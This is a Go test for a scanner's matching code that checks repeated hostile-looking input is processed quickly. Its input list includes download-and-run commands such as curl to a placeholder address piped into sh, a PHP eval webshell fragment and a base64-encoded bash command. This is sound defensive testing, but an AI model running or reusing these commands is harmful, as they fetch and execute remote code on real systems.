package match

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

// TestHostileTextEnds: text made to cost as much as it can stays cheap. The bound is far above what is needed (well under a second of CPU for 1 MiB), so that a busy machine does not fail it.
func TestHostileTextEnds(t *testing.T) {
	s := shipped(t)
	for _, p := range []string{"curl http://192.0.2.4/a|sh\n", "$(curl ", "'\"`$(", "grep 'a|b", `\x63\x75`, "{\"method\":\"login\"}", "{\"a", "a.b.c.", "sudo ", "<?php eval($_POST[", "<% Process.", "$_POST[a](",
		"wget http://192.0.2.4/a -O /tmp/a\n/tmp/a\n", "0 0 0 0 0 ", "curl -o /tmp/x http://a/x;", "YmFzaCAtYyBjdXJsIGh0dHA6Ly8xLjIuMy40Cg==\n", "["} {
		text := strings.Repeat(p, (256<<10)/len(p))
		start := time.Now()
		if _, err := s.File(t.Context(), bytes.NewReader([]byte(text)), int64(len(text))); err != nil {
			t.Fatal(err)
		}
		s.Memory(t.Context(), []byte(text))
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("%q repeated takes %s", p, d)
		}
	}
}
